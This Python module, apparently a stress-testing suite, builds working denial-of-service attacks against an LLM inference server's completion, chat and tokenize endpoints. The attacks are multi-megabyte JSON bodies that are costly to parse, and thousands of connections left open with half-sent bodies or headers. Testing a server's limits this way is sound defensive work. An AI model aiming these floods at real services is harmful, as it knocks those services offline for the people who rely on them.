"""Attacks on a server: bodies that are costly to read, and bodies and headers that never end."""

import asyncio
import contextlib
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import NamedTuple

LIMIT = 8 * 2**20
"""Longest body that the server takes by default."""

_PAUSE = 0.2


class Target(NamedTuple):
    """Address of the server."""

    host: str
    port: int


Attack = Callable[[Target, float], Awaitable[Counter[int]]]
"""Attacks for so many seconds; how many answers of each status came, 0 for a connection that was closed without one."""


def repeated(begin: bytes, item: bytes, end: bytes, size: int = LIMIT) -> bytes:
    """A body of so many bytes at most, with `item` as often as it fits."""
    count = (size - len(begin) - len(end)) // (len(item) + 1)
    return begin + b",".join([item] * count) + end


def posts(path: str, body: bytes, at_once: int = 6) -> Attack:
    """Sends one body over and over, so many at once."""

    async def attack(target: Target, seconds: float) -> Counter[int]:
        found: Counter[int] = Counter()
        until = time.monotonic() + seconds

        async def send() -> None:
            while time.monotonic() < until:
                found[await _post(target, path, body)] += 1

        await asyncio.gather(*(send() for _ in range(at_once)))
        return found

    return attack


def unfinished(connections: int, sent: bytes) -> Attack:
    """Opens connections, sends the same beginning on each, and leaves them so."""

    async def attack(target: Target, seconds: float) -> Counter[int]:
        until = time.monotonic() + seconds
        places = asyncio.Semaphore(64)
        async with contextlib.AsyncExitStack() as stack:
            readers = []
            for start in range(0, connections, 64):
                batch = (_open(target, sent, places) for _ in range(min(64, connections - start)))
                for reader, writer in await asyncio.gather(*batch):
                    stack.callback(writer.close)
                    readers.append(reader)
            await asyncio.sleep(max(_PAUSE, until - time.monotonic()))
            return Counter(await asyncio.gather(*(_answer_so_far(reader) for reader in readers)))

    return attack


def half_body(length: int, sent: int) -> bytes:
    """The beginning of a request whose body has `length` bytes, `sent` of which come."""
    return _head("/v1/completions", length) + b'{"prompt": "' + b"x" * (sent - 12)


HALF_HEADERS = b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nX-Slow: "


async def _open(
    target: Target, sent: bytes, places: asyncio.Semaphore
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    async with places:
        reader, writer = await asyncio.open_connection(*target)
        writer.write(sent)
        with contextlib.suppress(ConnectionError, TimeoutError):
            async with asyncio.timeout(5):
                await writer.drain()
        return reader, writer


async def _answer_so_far(reader: asyncio.StreamReader) -> int:
    """The status of a connection's answer; -1 where there is none yet."""
    try:
        async with asyncio.timeout(0.01):
            line = await reader.readline()
            return int(line.split()[1]) if line else 0
    except TimeoutError:
        return -1
    except ConnectionError:
        return 0


async def _post(target: Target, path: str, body: bytes) -> int:
    reader, writer = await asyncio.open_connection(*target)
    try:
        writer.write(_head(path, len(body)) + body)
        line = await reader.readline()
        await reader.read(4096)
        return int(line.split()[1]) if line else 0
    except ConnectionError:
        return 0
    finally:
        writer.close()


def _head(path: str, length: int) -> bytes:
    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n"
    return head.encode() + b"Connection: close\r\n\r\n"


_METADATA = b'{"prompt": "a", "max_tokens": 1, "metadata": {"a": ['

ATTACKS: dict[str, Attack] = {
    "8 MB of nested lists": posts("/v1/completions", repeated(_METADATA, b"[" * 60 + b"]" * 60, b"]}}")),
    "8 MB of empty lists": posts("/v1/completions", repeated(_METADATA, b"[]", b"]}}")),
    "8 MB of small objects": posts("/v1/completions", repeated(_METADATA, b'{"a":1}', b"]}}")),
    "as many objects as are allowed": posts("/v1/completions", repeated(_METADATA, b'{"a":1}', b"]}}", 790_000)),
    "2.6 M ids to detokenise": posts("/detokenize", repeated(b'{"tokens": [', b"77", b"]}", 7_800_000)),
    "1 M ids to detokenise": posts("/detokenize", repeated(b'{"tokens": [', b"77", b"]}", 2_990_000)),
    "1.9 M ids as a prompt": posts("/v1/completions", repeated(b'{"prompt": [', b"77", b"]}", 5_700_000)),
    "520 k messages": posts("/v1/chat/completions", repeated(b'{"messages": [', b'{"role":"a"}', b"]}", 6_760_000)),
    "10 k messages": posts(
        "/v1/chat/completions",
        repeated(b'{"messages": [', b'{"role":"user","content":"a"}', b"]}", 290_000),
    ),
    "600 k unknown fields": posts(
        "/v1/completions", b'{"prompt": "a", ' + b",".join(b'"%d":1' % i for i in range(600_000)) + b"}"
    ),
    "190 k unknown fields": posts(
        "/v1/completions", b'{"prompt": "a", ' + b",".join(b'"%d":1' % i for i in range(190_000)) + b"}"
    ),
    "30 kB of nested lists": posts("/v1/completions", repeated(_METADATA, b"[" * 60 + b"]" * 60, b"]}}", 30_000), 24),
    "30 kB of text": posts("/tokenize", b'{"prompt": "' + b"ab c " * 6_500 + b'"}'),
    "1 MB of text, a valid chat": posts(
        "/v1/chat/completions",
        b'{"max_tokens": 1, "messages": [{"role": "user", "content": "' + b"hello " * 170_000 + b'"}]}',
    ),
    "4,100 half-sent bodies": unfinished(4_100, half_body(100_000, 1_000)),
    "400 half-sent bodies of 8 MB": unfinished(400, half_body(LIMIT, LIMIT - 4096)),
    "2,000 half-sent headers": unfinished(2_000, HALF_HEADERS),
}
